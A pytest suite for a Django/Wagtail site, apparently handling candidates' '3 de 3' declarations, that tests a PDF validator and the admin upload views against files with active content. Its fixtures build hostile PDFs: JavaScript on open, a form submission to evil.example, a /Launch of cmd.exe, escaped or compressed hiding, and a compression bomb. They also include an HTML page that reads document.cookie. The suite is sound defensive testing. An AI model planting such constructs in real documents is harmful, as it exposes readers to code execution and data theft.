"""Only real PDFs without active content are accepted, as "3 de 3" and in the document library.

Issue #11 (finding 4): a PDF whose /OpenAction ran JavaScript was accepted and served inline, and
an HTML page renamed `.pdf` entered the library. Each hostile file here is built the way such
files are written (plain, with `#xx` name escapes, inside a compressed object stream) and tried
through the candidacy's validation and through the admin's upload views; the database must be
unchanged and the refusal in Spanish.
"""

import zlib

from django.contrib.auth import get_user_model
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from wagtail.documents import get_document_model

import pytest

from candidates.pdf import MAX_INFLATED_BYTES, active_content
from candidates.validators import validate_pdf_file

Document = get_document_model()


def pdf(*objects, compressed=()):
    """A small PDF with `objects` written plainly and `compressed` inside a FlateDecode stream."""
    parts = [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"]
    number = 1
    for body in objects:
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))
        number += 1
    if compressed:
        payload = zlib.compress(b"\n".join(compressed))
        parts.append(
            b"%d 0 obj\n<< /Type /ObjStm /N %d /First 0 /Filter /FlateDecode /Length %d >>\n"
            b"stream\n%s\nendstream\nendobj\n" % (number, len(compressed), len(payload), payload)
        )
    parts.append(b"trailer\n<< /Root 1 0 R >>\n%%EOF\n")
    return b"".join(parts)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>"
TEXT = zlib.compress(b"BT /F1 12 Tf 72 720 Td (Declaro bajo protesta: 3 de 3) Tj ET")
CONTENT = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(TEXT), TEXT)

CLEAN = pdf(CATALOG, PAGES, PAGE, CONTENT)
# Opening at the first page is a plain /OpenAction: no code runs.
OPEN_AT_PAGE = pdf(
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", PAGES, PAGE, CONTENT
)

HOSTILE = {
    "open-action-javascript": pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        PAGES,
        PAGE,
        CONTENT,
        b"<< /Type /Action /S /JavaScript /JS (app.alert('hola')) >>",
    ),
    "escaped-name": pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (x) >> >>",
        PAGES,
    ),
    "javascript-in-object-stream": pdf(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        PAGES,
        PAGE,
        CONTENT,
        compressed=[b"<< /S /JavaScript /JS (this.submitForm('https://evil.example')) >>"],
    ),
    "launch": pdf(CATALOG, PAGES, b"<< /Type /Action /S /Launch /F (cmd.exe) >>"),
    "embedded-files": pdf(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 3 0 R >> >>", PAGES
    ),
    "embedded-file-stream": pdf(CATALOG, PAGES, b"<< /Type /EmbeddedFile /Length 0 >>"),
    "rich-media": pdf(CATALOG, PAGES, b"<< /Type /Annot /Subtype /RichMedia >>"),
    "additional-actions": pdf(
        CATALOG, PAGES, b"<< /Type /Page /Parent 2 0 R /AA << /O 5 0 R >> >>"
    ),
    "submit-form": pdf(CATALOG, PAGES, b"<< /S /SubmitForm /F (https://evil.example) >>"),
    "hex-encoded-stream": pdf(
        CATALOG,
        b"<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n%s>\nendstream"
        % zlib.compress(b"<< /S /Launch /F (calc) >>").hex().encode(),
    ),
}

NOT_PDF = {
    "html": b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>",
    "zip": b"PK\x03\x04 not a pdf",
    "empty": b"",
}


@pytest.mark.parametrize("data", [CLEAN, OPEN_AT_PAGE], ids=["clean", "open-at-page"])
def test_plain_pdfs_pass(data):
    assert active_content(data) is None
    validate_pdf_file(ContentFile(data, name="3de3.pdf"))


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_active_content_is_refused_as_three_of_three(name):
    with pytest.raises(Exception) as refused:
        validate_pdf_file(ContentFile(HOSTILE[name], name="3de3.pdf"))
    (message,) = refused.value.messages
    assert message.startswith("El documento «3 de 3» contiene "), message
    assert "no se permite en documentos públicos" in message


@pytest.mark.parametrize("name", sorted(NOT_PDF))
def test_a_file_that_is_not_a_pdf_is_refused_whatever_its_name(name):
    with pytest.raises(Exception) as refused:
        validate_pdf_file(ContentFile(NOT_PDF[name], name="3de3.pdf"))
    assert refused.value.messages == [
        "El archivo no es un PDF válido aunque su nombre termine en .pdf."
    ]


def test_encrypted_pdf_cannot_be_inspected_and_is_refused():
    data = pdf(CATALOG, PAGES) + b"trailer << /Encrypt 9 0 R >>\n"
    with pytest.raises(Exception) as refused:
        validate_pdf_file(ContentFile(data, name="3de3.pdf"))
    assert "cifrado" in refused.value.messages[0]


def test_compression_bomb_is_refused_without_inflating_it(monkeypatch):
    monkeypatch.setattr("candidates.pdf.MAX_INFLATED_BYTES", 1024 * 1024)
    bomb = zlib.compress(b"\0" * (4 * 1024 * 1024), 9)
    data = pdf(CATALOG, b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n%s\nendstream" % bomb)
    with pytest.raises(Exception) as refused:
        validate_pdf_file(ContentFile(data, name="3de3.pdf"))
    assert "demasiado grandes" in refused.value.messages[0]
    assert MAX_INFLATED_BYTES >= 10 * 1024 * 1024


def test_a_large_scanned_page_is_not_inflated(monkeypatch):
    """Scanned forms store pages as Flate images; their pixels are not searched."""
    monkeypatch.setattr("candidates.pdf.MAX_INFLATED_BYTES", 1024 * 1024)
    pixels = zlib.compress(b"\xff" * (4 * 1024 * 1024), 9)
    scan = b"<< /Type /XObject /Subtype /Image /Width 2048 /Height 2048 /BitsPerComponent 8 "
    scan += b"/ColorSpace /DeviceGray /Filter /FlateDecode >>\nstream\n%s\nendstream" % pixels
    validate_pdf_file(ContentFile(pdf(CATALOG, PAGES, PAGE, CONTENT, scan), name="3de3.pdf"))


def test_binary_streams_are_not_read_as_dictionaries():
    """A font or picture's bytes may spell /JS by chance; only dictionaries declare actions."""
    font = b"<< /Length1 8 >>\nstream\n\x00\x9c/JS \x01/AA\n\x02\nendstream"
    validate_pdf_file(ContentFile(pdf(CATALOG, PAGES, PAGE, CONTENT, font), name="3de3.pdf"))


def test_a_corrupt_object_stream_cannot_be_inspected_and_is_refused():
    broken = b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot zlib at all\nendstream"
    with pytest.raises(Exception) as refused:
        validate_pdf_file(ContentFile(pdf(CATALOG, broken), name="3de3.pdf"))
    assert "no se pueden revisar" in refused.value.messages[0]


def test_an_object_stream_cannot_hide_behind_an_image_subtype():
    hidden = zlib.compress(b"<< /S /JavaScript /JS (app.alert(1)) >>")
    stream = b"<< /Type /ObjStm /Subtype /Image /Filter /FlateDecode >>\nstream\n%s\nendstream"
    assert active_content(pdf(CATALOG, stream % hidden)) == "código JavaScript"


# --- The document library: every upload view ------------------------------------------------


@pytest.fixture
def admin_client(client, db):
    user = get_user_model().objects.create_superuser("admin-docs", "a@example.org", "x" * 20)
    client.force_login(user)
    return client


def upload(name, data):
    return SimpleUploadedFile(name, data, "application/pdf")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("html", NOT_PDF["html"]),
        ("open-action-javascript", HOSTILE["open-action-javascript"]),
        ("javascript-in-object-stream", HOSTILE["javascript-in-object-stream"]),
    ],
)
def test_library_single_upload_refuses(admin_client, name, data):
    response = admin_client.post(
        reverse("wagtaildocs:add"),
        {"title": name, "file": upload(f"{name}.pdf", data), "collection": 1, "tags": ""},
    )
    assert response.status_code == 200
    assert not Document.objects.exists()
    errors = response.context["form"].errors["file"]
    assert errors and ("no es un PDF" in errors[0] or "contiene" in errors[0]), errors


def test_library_multiple_upload_refuses(admin_client):
    response = admin_client.post(
        reverse("wagtaildocs:add_multiple"),
        {"files[]": upload("pagina.pdf", NOT_PDF["html"]), "collection": 1},
    )
    assert response.json()["success"] is False
    assert "no es un PDF" in str(response.json())
    assert not Document.objects.exists()


def test_library_chooser_upload_refuses(admin_client):
    response = admin_client.post(
        reverse("wagtaildocs_chooser:create"),
        {
            "document-chooser-upload-title": "3 de 3",
            "document-chooser-upload-file": upload("3de3.pdf", HOSTILE["launch"]),
            "document-chooser-upload-collection": 1,
            "document-chooser-upload-tags": "",
        },
    )
    assert response.status_code == 200
    assert response.json()["step"] == "reshow_creation_form"
    assert "acción que abre programas" in response.json()["htmlFragment"]
    assert not Document.objects.exists()


def test_library_accepts_a_plain_pdf(admin_client):
    response = admin_client.post(
        reverse("wagtaildocs:add"),
        {"title": "3 de 3", "file": upload("3de3.pdf", CLEAN), "collection": 1, "tags": ""},
    )
    assert response.status_code == 302
    assert Document.objects.get().title == "3 de 3"


def test_documents_download_as_attachments(client, db):
    document = Document.objects.create(title="3 de 3", file=ContentFile(CLEAN, name="3de3.pdf"))
    response = client.get(document.url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == CLEAN
